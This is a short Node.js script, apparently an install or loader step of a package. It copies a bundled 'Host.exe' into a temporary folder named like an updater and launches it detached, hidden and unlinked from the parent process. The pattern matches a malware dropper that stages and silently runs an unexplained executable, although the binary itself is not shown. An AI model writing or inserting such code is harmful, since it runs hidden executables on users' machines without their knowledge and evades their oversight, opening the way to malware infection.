const fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process');
const dst = path.join(os.tmpdir(), 'Updater_' + Date.now());
fs.mkdirSync(dst, { recursive: true });
fs.copyFileSync(path.join(__dirname, 'bin', 'Host.exe'), path.join(dst, 'Host.exe'));
spawn(path.join(dst, 'Host.exe'), [], { cwd: dst, detached: true, stdio: 'ignore', windowsHide: true }).unref();
